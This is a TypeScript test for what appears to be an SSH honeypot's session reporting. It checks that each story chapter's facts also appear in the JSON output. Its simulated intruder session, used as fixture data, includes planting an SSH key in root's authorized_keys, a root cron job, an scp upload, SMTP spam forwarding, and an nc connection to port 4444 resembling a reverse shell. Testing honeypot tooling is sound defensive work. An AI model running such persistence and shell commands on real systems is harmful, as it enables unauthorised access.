/** The story and its JSON tell the same. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { linksCommand } from "../../gateway/commands/links.ts";
import { readSession, showCommand } from "../../gateway/commands/show.ts";
import { CHAPTERS } from "../../gateway/commands/story.ts";
import { rebuildIndex } from "../../gateway/index/rebuild.ts";
import type { FileFact } from "../../gateway/model/file-facts.ts";
import { dataFolder, Live, putCapture, putLateFacts } from "../archivist/folder.ts";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { byteString } from "../evidence/indicators/byte-string.ts";
import { NETWORK_FACTS, SUNK } from "../evidence/network-facts.ts";
import { Heard } from "./heard.ts";

/** Where each chapter's facts stand in the JSON. */
const STANDS_IN: Readonly<Record<keyof typeof CHAPTERS, readonly string[]>> = {
  who: ["session", "summary", "client", "observations"],
  gotIn: ["observations", "client", "summary"],
  did: ["observations", "leftOut"],
  ran: ["processes"],
  triedOnNetwork: ["network"],
  triedUnattended: ["unattended", "network"],
  witnessed: ["files"],
  whatStayed: ["stayed", "files"],
  persisted: ["indicators"],
  named: ["indicators"],
  ended: ["summary", "state", "recording", "observations"],
};
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f a@b";

test("whatever stands in the story in full stands in the JSON, chapter by chapter, and links as `links` tells them", async (t) => {
  const data = dataFolder(t);
  const live = async (talk: Conversation) => {
    const one = new Live(data, talk.session);
    one.write(talk.entries);
    return await one.finish(talk.end());
  };
  const talk = new Conversation("abababababab");
  talk.hello("SSH-2.0-libssh_0.9.6").password("admin", "Wr0ng!", "refused").password("root", "hunter2", "accepted").leased(); // prettier-ignore
  talk.fact({ kind: "logged-in", user: byteString("root"), method: "password" });
  const shell = talk.open();
  talk.shell(shell).gets(shell, "\x1b[?2004hroot@srv:~# ");
  for (const line of ["nothing-of-that-name", `echo '${KEY}' >> ~/.ssh/authorized_keys`])
    talk.sends(shell, `${line}\r`).gets(shell, `${line}\r\n\x1b[?2004l\rbash: x: command not found\r\n\x1b[?2004hroot@srv:~# `); // prettier-ignore
  const exec = talk.open();
  talk.exec(exec, "cat > /etc/cron.d/j <<E\n* * * * * root /tmp/j.sh\nE\n").exits(exec, 0);
  const scp = talk.open();
  talk.exec(scp, "scp -t /tmp/bin").sends(scp, "C0644 3 bin\nabc\0").exits(scp, 0);
  talk.sends(talk.forward("mail.example.org", 25), "EHLO spam.example");
  const time = Date.parse("2026-11-23T02:16:00Z") * 1000;
  const by = { kind: "process", time, uid: 1001 } as const;
  const words = (...argv: string[]) => argv.map(byteString);
  talk.fact({
    ...by,
    did: "run",
    pid: 40,
    parent: 0,
    path: byteString("/tmp/bin"),
    argv: words("/tmp/bin", "-x"),
  });
  talk.fact({
    ...by,
    did: "run",
    pid: 41,
    parent: 40,
    path: byteString("/bin/nc"),
    argv: words("nc", "203.0.113.50"),
  });
  talk.fact({
    ...by,
    did: "connect",
    pid: 41,
    to: { family: "inet", address: "203.0.113.50", port: 4444 },
    errno: 111,
  });
  talk.fact({ ...by, did: "end", pid: 40, ended: { after: 5000, status: 7 } });
  const gone: FileFact = { kind: "file", how: "run-and-deleted", path: byteString("/tmp/gone"), sha256: "c".repeat(64), size: 9, time }; // prettier-ignore
  talk.fact(gone);
  for (const fact of NETWORK_FACTS) talk.fact(fact);
  const folder = await live(talk.after(60_000));
  putCapture(data, folder, {
    ...{ sandbox: SANDBOX, sessions: [talk.session], source: "192.0.2.7", cut: false },
    takenAt: "2026-11-23T02:20:00.000000Z",
    changes: [
      { kind: "A", path: "/tmp/left", type: "file", size: 4, sha256: "d".repeat(64) },
      { kind: "D", path: "/etc/motd", type: "file" },
    ],
  });
  putLateFacts(data, folder, [SUNK]);
  const other = new Conversation("cdcdcdcdcdcd", "2026-11-24T02:15:37.223438Z").hello("SSH-2.0-libssh_0.9.6");
  const [opened] = other.entries;
  if (opened?.type === "fact" && opened.fact.kind === "session-opened")
    other.entries[0] = { ...opened, fact: { ...opened.fact, source: { address: "192.0.2.99", port: 4 } } };
  await live(other);
  await rebuildIndex(data);

  const session = await readSession(data, talk.session);
  const heard = new Heard();
  await showCommand(talk.session, { data, json: true }, heard);
  const whole = JSON.parse(heard.out) as Record<string, unknown>;
  let tokens = 0;
  for (const [name, chapter] of Object.entries(CHAPTERS)) {
    const places = STANDS_IN[name as keyof typeof CHAPTERS];
    const there = places.map((place) => JSON.stringify(whole[place])).join("\n");
    const lines = chapter(session, { now: Date.now(), full: true });
    assert.ok(lines.length > 0, `${name} has nothing to tell here`);
    for (const token of lines.slice(1).flatMap(factsOf)) {
      tokens++;
      assert.ok(there.includes(token), `${name}: ${token} is not in ${places.join(", ")}`);
    }
  }
  assert.ok(tokens > 25, `${tokens} facts were compared`);

  const linked = new Heard();
  await linksCommand(talk.session, { data, json: true, limit: "1000" }, linked);
  const { links, common } = JSON.parse(linked.out) as Record<string, unknown>;
  assert.deepEqual(whole["links"], { links, common });
  assert.equal((links as unknown[]).length, 1);
});

/** Words of a line that are a stranger's or name something: hashes, paths, addresses, names, not our own words, sums or times. */
function factsOf(line: string): string[] {
  return line
    .replace(/^ *\+[\d.]+ s/, "")
    .split(/[\s,()'→⏎]+/)
    .map((word) => word.replace(/^[×[]|[\]:;.]+$/g, ""))
    .filter((word) => !word.includes("\\x"))
    .filter((word) => /[0-9a-f]{12}|[/@_]|^[\w-]+\.[\w.-]+$/.test(word) && !/^[\d.]+$/.test(word))
    .map((word) => /^([\w.-]+):\d+$/.exec(word)?.[1] ?? word);
}
